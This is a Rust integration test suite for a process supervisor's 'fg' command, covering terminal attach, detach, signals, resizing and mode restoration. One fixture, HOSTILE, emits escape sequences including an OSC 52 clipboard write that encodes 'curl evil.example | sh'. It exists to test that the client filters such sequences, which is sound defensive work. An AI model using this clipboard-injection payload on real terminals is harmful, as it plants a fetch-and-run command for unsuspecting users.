//! `taskmasterctl fg`: attach to a live program like tmux, detach without harm. Each test runs
//! taskmasterctl on a PTY the test holds, as a person at a terminal would.

use crate::SOON;
use std::ffi::OsStr;
use tests::{bin, wait_until, Daemon, PtySession, Scratch};

/// `taskmasterctl fg NAME EXTRA…` on a PTY of 30×100, as a person at a terminal would run it.
pub fn fg(d: &Daemon, name: &str, extra: &[&str]) -> PtySession {
    let ctl = bin("taskmasterctl");
    let mut args: Vec<&OsStr> = vec![ctl.as_os_str(), OsStr::new("-s"), d.socket.as_os_str(), OsStr::new("fg")];
    args.extend(extra.iter().map(OsStr::new));
    args.push(OsStr::new(name));
    PtySession::spawn(&args, 30, 100)
}

#[test]
fn keystrokes_reach_a_pty_program_and_echo_back() {
    let d = Daemon::start("programs:\n  cat:\n    command: cat\n    pty: true\n    startsecs: 0\n");
    d.wait_state("cat", "RUNNING", SOON);
    let mut s = fg(&d, "cat", &[]);
    s.expect("\x1b[2J"); // the screen redraw at attach
    s.send(b"hello there\r");
    s.expect("hello there\r\nhello there\r\n"); // the tty's echo, then cat's copy
    s.send(b"\x1d");
    assert!(s.wait().success());
    s.expect("[detached from cat]");
}

#[test]
fn the_window_size_follows_the_client_at_attach_and_on_sigwinch() {
    // The probe takes each SIGWINCH with sigwait and prints `stty size`: none can be lost.
    let scratch = Scratch::new();
    let probe = scratch.probe(&crate::probe());
    let d = Daemon::start_in(
        scratch,
        &format!("programs:\n  w:\n    command: {} winch\n    pty: true\n    startsecs: 0\n", probe.display()),
    );
    // Attach only once SIGWINCH is awaited: the attach itself resizes the terminal.
    wait_until("SIGWINCH blocked and awaited", SOON, || d.ctl(&["tail", "w"]).stdout.contains("armed"));
    let mut s = fg(&d, "w", &[]);
    s.expect("30 100");
    let m = s.mark();
    s.stty(&["rows", "40", "cols", "120"]); // the terminal is resized: taskmasterctl gets SIGWINCH
    s.expect_after(m, "40 120");
    s.send(b"\x1d");
    assert!(s.wait().success());
}

#[test]
fn ctrl_c_reaches_the_program_and_the_client_stays_attached() {
    // The probe counts SIGINTs with sigwait: each is seen, none can fall between two handlers.
    let scratch = Scratch::new();
    let probe = scratch.probe(&crate::probe());
    let d = Daemon::start_in(
        scratch,
        &format!("programs:\n  t:\n    command: {} sigint\n    pty: true\n    startsecs: 0\n", probe.display()),
    );
    wait_until("SIGINT blocked and awaited", SOON, || d.ctl(&["tail", "t"]).stdout.contains("armed"));
    let pid = d.proc_pid("t");
    let mut s = fg(&d, "t", &[]);
    s.expect("\x1b[2J");
    s.send(b"\x03");
    s.expect("got-int 1");
    s.send(b"\x03");
    s.expect("got-int 2");
    // Detach: the program keeps running, same pid.
    s.send(b"\x1d");
    assert!(s.wait().success());
    assert_eq!(d.state("t"), "RUNNING");
    assert_eq!(d.proc_pid("t"), pid);
}

#[test]
fn detach_restores_the_terminal_exactly() {
    let d = Daemon::start("programs:\n  cat:\n    command: cat\n    pty: true\n    startsecs: 0\n");
    d.wait_state("cat", "RUNNING", SOON);
    let mut s = fg(&d, "cat", &["--detach-keys", "ctrl-p,ctrl-q"]);
    let before = s.initial_stty.clone();
    s.expect("\x1b[2J");
    assert_ne!(s.stty(&["-g"]), before, "raw mode while attached");
    s.send(b"\x10x\x10\x11");
    assert!(s.wait().success());
    assert_eq!(s.stty(&["-g"]), before);
}

#[test]
fn two_clients_both_see_a_line_the_program_prints() {
    let sc = Scratch::new();
    let trigger = sc.path("go");
    let yaml = format!("programs:\n  p:\n    command: /bin/sh -c 'while [ ! -e {} ]; do sleep 0.02; done; echo shared-line; exec sleep 1000'\n    pty: true\n    startsecs: 0\n", trigger.display());
    let d = Daemon::start_in(sc, &yaml);
    d.wait_state("p", "RUNNING", SOON);
    let mut a = fg(&d, "p", &[]);
    let mut b = fg(&d, "p", &[]);
    a.expect("\x1b[2J");
    b.expect("\x1b[2J");
    std::fs::write(&trigger, "").unwrap();
    a.expect("shared-line");
    b.expect("shared-line");
    a.send(b"\x1d");
    assert!(a.wait().success());
    // One leaving does not disturb the other.
    b.send(b"\x1d");
    assert!(b.wait().success());
    assert_eq!(d.state("p"), "RUNNING");
}

#[test]
fn attaching_redraws_the_current_full_screen() {
    let d = Daemon::start(
        "programs:\n  grid:\n    command: /bin/sh -c 'printf \"\\033[2J\\033[H\"; for i in 1 2 3 4 5; do printf \"GRID-ROW-$i |#|#|#|\\r\\n\"; done; exec sleep 1000'\n    pty: true\n    startsecs: 0\n",
    );
    d.wait_state("grid", "RUNNING", SOON);
    wait_until("the grid drawn", SOON, || d.ctl(&["tail", "grid"]).stdout.contains("GRID-ROW-5"));
    let mut s = fg(&d, "grid", &[]);
    for i in 1..=5 {
        s.expect(&format!("GRID-ROW-{i} |#|#|#|"));
    }
    s.send(b"\x1d");
    assert!(s.wait().success());
}

#[test]
fn the_program_exiting_ends_the_session_with_its_status() {
    let d = Daemon::start("programs:\n  q:\n    command: /bin/sh -c 'read x; echo bye; exit 3'\n    pty: true\n    startsecs: 0\n    autorestart: never\n");
    d.wait_state("q", "RUNNING", SOON);
    let mut s = fg(&d, "q", &[]);
    s.expect("\x1b[2J");
    s.send(b"go\r");
    let status = s.wait();
    s.expect("bye");
    s.expect("[q exited with status 3]");
    assert_eq!(status.code(), Some(3), "the client exits with the program's status");
}

#[test]
fn the_client_exits_with_the_programs_status_and_names_the_signal_that_killed_it() {
    let d = Daemon::start(
        "programs:\n  seven:\n    command: /bin/sh -c 'read x; exit 7'\n    pty: true\n    startsecs: 0\n    autorestart: never\n  \
         big:\n    command: /bin/sh -c 'read x; exit 143'\n    pty: true\n    startsecs: 0\n    autorestart: never\n  \
         term:\n    command: sleep 1000\n    pty: true\n    startsecs: 0\n    autorestart: never\n",
    );
    for name in ["seven", "big", "term"] {
        d.wait_state(name, "RUNNING", SOON);
    }
    for (name, code, message) in
        [("seven", 7, "[seven exited with status 7]"), ("big", 143, "[big exited with status 143]")]
    {
        let mut s = fg(&d, name, &[]);
        s.expect("\x1b[2J");
        s.send(b"go\r");
        let status = s.wait();
        s.expect(message);
        assert_eq!(status.code(), Some(code), "{name}: {:?}", s.seen);
    }
    // Killed by a signal: 128 + the signal's number, and the signal named as the main log does.
    let mut s = fg(&d, "term", &[]);
    s.expect("\x1b[2J");
    let run = d.ctl(&["signal", "TERM", "term"]);
    assert_eq!(run.code, 0, "{run:?}");
    let status = s.wait();
    s.expect("[term terminated by SIGTERM]");
    assert_eq!(status.code(), Some(143), "{:?}", s.seen);
    d.wait_log("exited: 'term' (terminated by SIGTERM", SOON);
}

#[test]
fn fg_on_a_pty_program_refuses_a_stdin_that_is_not_a_terminal() {
    let d = Daemon::start("programs:\n  cat:\n    command: cat\n    pty: true\n    startsecs: 0\n");
    d.wait_state("cat", "RUNNING", SOON);
    let pid = d.proc_pid("cat");
    let run = d.ctl(&["fg", "cat"]); // stdin /dev/null
    assert_eq!(run.code, 2, "{run:?}");
    assert!(run.stderr.contains("cat runs on a terminal (pty: true) and stdin is not one"), "{run:?}");
    assert!(run.stdout.is_empty(), "nothing is written to a non-terminal: {run:?}");
    assert_eq!((d.state("cat").as_str(), d.proc_pid("cat")), ("RUNNING", pid));
}

#[test]
fn a_hint_names_the_detach_keys_before_the_repaint_and_q_hides_it() {
    let d = Daemon::start("programs:\n  cat:\n    command: cat\n    pty: true\n    startsecs: 0\n");
    d.wait_state("cat", "RUNNING", SOON);
    for (extra, hint, detach) in [
        (&[][..], "attached to cat; detach with Ctrl-]\r\n", &b"\x1d"[..]),
        (&["--detach-keys", "ctrl-p,ctrl-q"][..], "attached to cat; detach with Ctrl-P Ctrl-Q\r\n", &b"\x10\x11"[..]),
    ] {
        let mut s = fg(&d, "cat", extra);
        s.expect("\x1b[2J");
        let at = s.seen.find(hint).unwrap_or_else(|| panic!("no hint {hint:?}: {:?}", s.seen));
        assert!(at < s.seen.find("\x1b[2J").unwrap(), "the hint comes before the repaint: {:?}", s.seen);
        s.send(detach);
        assert!(s.wait().success());
    }
    let mut s = fg(&d, "cat", &["-q"]);
    s.expect("\x1b[2J");
    s.send(b"\x1d");
    assert!(s.wait().success());
    assert!(!s.seen.contains("attached to"), "-q hides the hint: {:?}", s.seen);
    s.expect("[detached from cat]");
}

#[test]
fn ctrl_bracket_detaches_from_a_pipe_program_at_once() {
    let d = Daemon::start(
        "programs:\n  echo:\n    command: /bin/sh -c 'while read l; do echo \"echo:$l\"; done'\n    startsecs: 0\n",
    );
    d.wait_state("echo", "RUNNING", SOON);
    let mut s = fg(&d, "echo", &[]);
    s.expect("attached to echo; detach with Ctrl-]");
    s.send(b"abc\r");
    s.expect("echo:abc");
    s.send(b"\x1d"); // no Enter
    assert!(s.wait().success());
    s.expect("[detached from echo]");
    assert_eq!(d.state("echo"), "RUNNING");
}

#[test]
fn status_marks_the_processes_fg_can_attach_a_terminal_to() {
    let d = Daemon::start(
        "programs:\n  tty:\n    command: cat\n    pty: true\n    startsecs: 0\n  plain:\n    command: sleep 1000\n    startsecs: 0\n",
    );
    d.wait_state("tty", "RUNNING", SOON);
    d.wait_state("plain", "RUNNING", SOON);
    let (tty, plain) = (d.row("tty"), d.row("plain"));
    assert_eq!((&tty["pty"], &plain["pty"]), (&serde_json::json!(true), &serde_json::json!(false)));
    let desc = tty["description"].as_str().unwrap();
    assert!(desc.starts_with(&format!("pid {}, uptime 0:00:", tty["pid"])) && desc.ends_with(" (pty)"), "{desc}");
    assert!(!plain["description"].as_str().unwrap().contains("pty"), "{plain}");
    let text = d.ctl(&["status"]).stdout;
    let line = text.lines().find(|l| l.starts_with("tty ")).unwrap();
    assert!(line.ends_with(" (pty)"), "{text:?}");
}

#[test]
fn fg_on_a_pipe_program_forwards_lines_and_leaves_it_running() {
    let d = Daemon::start(
        "programs:\n  echo:\n    command: /bin/sh -c 'while read l; do echo \"echo:$l\"; done'\n    startsecs: 0\n",
    );
    d.wait_state("echo", "RUNNING", SOON);
    let pid = d.proc_pid("echo");
    let mut s = fg(&d, "echo", &[]);
    s.send(b"abc\r");
    s.expect("echo:abc");
    s.send(b"\x04"); // Ctrl-D: line mode, so this ends the session
    assert!(s.wait().success());
    s.expect("[detached from echo]");
    assert_eq!((d.state("echo").as_str(), d.proc_pid("echo")), ("RUNNING", pid));
    // Its stdin is still open: a second session still reaches it.
    let mut s = fg(&d, "echo", &[]);
    s.send(b"again\r");
    s.expect("echo:again");
    s.send(b"\x1d\r");
    assert!(s.wait().success());
}

#[test]
fn the_terminal_is_restored_when_the_client_is_killed_or_the_daemon_goes_away() {
    let mut d = Daemon::start("programs:\n  cat:\n    command: cat\n    pty: true\n    startsecs: 0\n");
    d.wait_state("cat", "RUNNING", SOON);
    // SIGTERM to taskmasterctl (setsid execs it in place: the child's pid is taskmasterctl's).
    let mut s = fg(&d, "cat", &[]);
    s.expect("\x1b[2J");
    nix::sys::signal::kill(nix::unistd::Pid::from_raw(s.child.id() as i32), nix::sys::signal::Signal::SIGTERM).unwrap();
    assert!(s.wait().success());
    assert_eq!(s.stty(&["-g"]), s.initial_stty);
    assert_eq!(d.state("cat"), "RUNNING");
    // The daemon shuts down under an attached client.
    let mut s = fg(&d, "cat", &[]);
    s.expect("\x1b[2J");
    d.signal(nix::sys::signal::Signal::SIGTERM);
    assert_eq!(d.wait_exit(SOON), 0);
    let status = s.wait();
    assert_eq!(s.stty(&["-g"]), s.initial_stty);
    // Either the program's end is reported (cat terminated by SIGTERM: 143) or the daemon's (4).
    assert!(matches!(status.code(), Some(143 | 4)), "{status:?}: {:?}", s.seen);
}

/// What a hostile program prints: an OSC 52 clipboard write (`curl evil.example | sh`), an OSC 0
/// title, a cursor-position query (DSR), then an ordinary coloured marker.
pub(crate) const HOSTILE: &str = "printf '\\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\007\\033]0;pwned-title\\007\\033[6n\\033[31mvisible-marker\\033[0m\\r\\n'";

/// The screen shows the marker and its colour, and nothing that writes the clipboard, sets the
/// title or queries the terminal.
pub(crate) fn assert_sanitized(seen: &str) {
    assert!(seen.contains("\x1b[31mvisible-marker\x1b[0m"), "the coloured marker is missing: {seen:?}");
    for bad in ["]52", "pwned-title", "\x1b[6n"] {
        assert!(!seen.contains(bad), "{bad:?} reached the terminal: {seen:?}");
    }
}

#[test]
fn escape_sequences_that_write_the_clipboard_set_the_title_or_query_never_reach_the_terminal() {
    let sc = Scratch::new();
    let script = sc.path("hostile.sh");
    std::fs::write(&script, format!("read go\n{HOSTILE}\nexec sleep 1000\n")).unwrap();
    let pipe_script = sc.path("hostile-pipe.sh");
    std::fs::write(&pipe_script, format!("read go\n{HOSTILE}\nexec sleep 1000\n")).unwrap();
    let yaml = format!(
        "programs:\n  evil:\n    command: /bin/sh {}\n    pty: true\n    startsecs: 0\n  evilpipe:\n    command: /bin/sh {}\n    startsecs: 0\n",
        script.display(),
        pipe_script.display()
    );
    let d = Daemon::start_in(sc, &yaml);
    d.wait_state("evil", "RUNNING", SOON);
    d.wait_state("evilpipe", "RUNNING", SOON);
    for name in ["evil", "evilpipe"] {
        let mut s = fg(&d, name, &[]);
        if name == "evil" {
            s.expect("\x1b[2J");
        }
        s.send(b"go\r");
        s.expect("visible-marker\x1b[0m");
        s.send(b"\x1d\r");
        assert!(s.wait().success());
        assert_sanitized(&s.seen);
    }
}

/// What a full-screen program turns on (vim, htop, a TUI with the mouse): the alternate screen,
/// mouse reporting (clicks, button motion, SGR encoding), focus events, application cursor keys
/// and keypad, bracketed paste, a hidden cursor, a scroll region, origin mode, no autowrap, and
/// bold red text, which it then leaves on. `printf` arguments for a shell script.
const MODES_ON: &str = "\\033[?1049h\\033[?1000h\\033[?1002h\\033[?1006h\\033[?1004h\\033[?1h\\033=\\033[?2004h\\033[?25l\\033[5;20r\\033[?6h\\033[?7l\\033[1;31m";

/// Replays what the client wrote to its terminal through a terminal model of the same size, on
/// top of a shell prompt that was there before `fg`.
fn replay(seen: &str) -> vt100::Parser {
    let size = |n| std::num::NonZeroU16::new(n).unwrap();
    let mut model = vt100::Parser::new(size(30), size(100), 0);
    model.process(b"shell-prompt$ ");
    model.process(seen.as_bytes());
    model
}

/// Every mode of [`MODES_ON`] is off in what the client wrote, and the main screen is back with
/// the prompt on it, not the program's screen.
fn assert_every_mode_off(how: &str, seen: &str) {
    let model = replay(seen);
    let screen = model.screen();
    let flags = (
        screen.alternate_screen(),
        screen.application_cursor(),
        screen.application_keypad(),
        screen.bracketed_paste(),
        screen.hide_cursor(),
        screen.mouse_protocol_mode(),
        screen.mouse_protocol_encoding(),
        screen.bold(),
        screen.fgcolor(),
    );
    let off = (
        false,
        false,
        false,
        false,
        false,
        vt100::MouseProtocolMode::None,
        vt100::MouseProtocolEncoding::Default,
        false,
        vt100::Color::Default,
    );
    assert_eq!(flags, off, "{how}: (alternate screen, cursor keys, keypad, paste, hidden cursor, mouse, mouse encoding, bold, colour) left on: {seen:?}");
    let text = screen.contents();
    assert!(text.starts_with("shell-prompt$ "), "{how}: the main screen is not shown: {text:?}");
    assert!(!text.contains("ALT-SCREEN-TEXT"), "{how}: the program's screen stayed: {text:?}");
    // What the model does not keep: the last word on each is the one that turns it off.
    for (on, off) in
        [("\x1b[?1004h", "\x1b[?1004l"), ("\x1b[5;20r", "\x1b[r"), ("\x1b[?6h", "\x1b[?6l"), ("\x1b[?7l", "\x1b[?7h")]
    {
        let (last_on, last_off) = (seen.rfind(on), seen.rfind(off));
        assert!(last_on.is_some(), "{how}: the program's {on:?} never reached the terminal: {seen:?}");
        assert!(last_off > last_on, "{how}: {on:?} is not undone by {off:?}: {seen:?}");
    }
}

#[test]
fn detach_exit_and_termination_turn_off_every_mode_the_program_turned_on() {
    let sc = Scratch::new();
    let script = sc.path("tui.sh");
    std::fs::write(
        &script,
        format!("while read cmd; do\n  case $cmd in\n    go) printf '{MODES_ON}ALT-SCREEN-TEXT\\r\\n'; echo ready;;\n    quit) exit 0;;\n  esac\ndone\n"),
    )
    .unwrap();
    let yaml = format!(
        "programs:\n  tui:\n    command: /bin/sh {}\n    pty: true\n    startsecs: 0\n    autorestart: never\n",
        script.display()
    );
    let d = Daemon::start_in(sc, &yaml);
    d.wait_state("tui", "RUNNING", SOON);
    for how in ["detach", "SIGTERM", "SIGHUP", "exit"] {
        let mut s = fg(&d, "tui", &[]);
        s.expect("\x1b[2J");
        let m = s.mark();
        s.send(b"go\r");
        s.expect_after(m, "ready");
        // While attached the client works on the alternate screen; the hint stays on the main one.
        let during = replay(&s.seen);
        assert!(during.screen().alternate_screen(), "{how}: not on the alternate screen: {:?}", s.seen);
        let pid = nix::unistd::Pid::from_raw(s.child.id() as i32);
        match how {
            "detach" => s.send(b"\x1d"),
            "SIGTERM" => nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGTERM).unwrap(),
            "SIGHUP" => nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGHUP).unwrap(),
            _ => s.send(b"quit\r"),
        }
        let status = s.wait();
        assert_eq!(status.code(), Some(0), "{how}: {:?}", s.seen);
        assert_every_mode_off(how, &s.seen);
        assert_eq!(s.stty(&["-g"]), s.initial_stty, "{how}: termios");
    }
    assert!(d.log().contains("exited: 'tui' (exit status 0"), "{}", d.log());
}
